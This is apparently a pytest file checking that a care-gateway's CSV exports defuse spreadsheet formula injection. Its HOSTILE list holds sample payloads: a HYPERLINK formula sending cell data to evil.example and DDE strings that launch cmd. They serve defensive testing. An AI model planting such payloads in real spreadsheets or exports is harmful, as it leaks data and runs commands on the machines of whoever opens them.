"""Spreadsheet formula injection: no cell of a CSV the gateway writes starts a formula."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from click.testing import CliRunner

from ivr_gateway.cli import main
from ivr_gateway.db import Database
from ivr_gateway.rota.csv_import import template_csv
from ivr_gateway.spreadsheet_csv import SpreadsheetWriter, neutralise_cell
from tests.factories import make_adult, make_care_worker, make_planned_visit

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"Joan")', "+1+cmd|' /C calc'!A0",
           "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_leading_cell_is_prefixed_with_a_single_quote(value: str) -> None:
    assert neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Joan", "-5", "-2.5", "-10%", "42", "", "O'Brien"])
def test_names_and_plain_numbers_are_left_as_they_are(value: str) -> None:
    assert neutralise_cell(value) == value


def test_the_writer_neutralises_every_cell_and_keeps_crlf() -> None:
    out = io.StringIO()
    SpreadsheetWriter(out).writerows([["=1+1", 7, None]])
    assert out.getvalue() == "'=1+1,7,\r\n"


def test_a_client_named_as_a_formula_is_text_in_report_kpi(database: Database,
                                                            tmp_path: Path) -> None:
    with database.unit_of_work() as session:
        joan = make_adult(session, ref="@REF", given_name=HOSTILE[0], family_name="-2+3")
        amy = make_care_worker(session, ref="AMY", given_name="+Amy", family_name="=cmd")
        make_planned_visit(session, joan, [amy],
                           start=datetime(2026, 1, 13, 9, 0, tzinfo=UTC), ref="=V1")
    result = CliRunner().invoke(main, ["report", "kpi", "--from", "2026-01-13", "--to",
                                       "2026-01-13", "--out", str(tmp_path)],
                                env={"DATABASE_URL": database.url})
    assert result.exit_code == 0, result.output
    written = sorted(tmp_path.glob("*.csv"))
    assert len(written) == 2
    cells = [cell for path in written
             for row in csv.reader(io.StringIO(path.read_text(), newline="")) for cell in row]
    assert any(cell.startswith("'" + HOSTILE[0]) for cell in cells)
    assert "'=V1" in cells and "'@REF" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))
                or (cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit())]


def test_the_rota_template_goes_through_the_same_writer() -> None:
    lines = template_csv(date(2026, 1, 13)).splitlines()
    assert len(lines) == 3 and not any(line.startswith("=") for line in lines)


def test_no_module_writes_csv_but_through_the_spreadsheet_writer() -> None:
    # One helper for every CSV writer: a new csv.writer elsewhere would skip the neutralising.
    package = Path(__file__).resolve().parents[2] / "ivr_gateway"
    writes = re.compile(r"csv\.(writer|DictWriter)\(")
    found = [p.name for p in package.rglob("*.py") if writes.search(p.read_text())]
    assert found == ["spreadsheet_csv.py"]
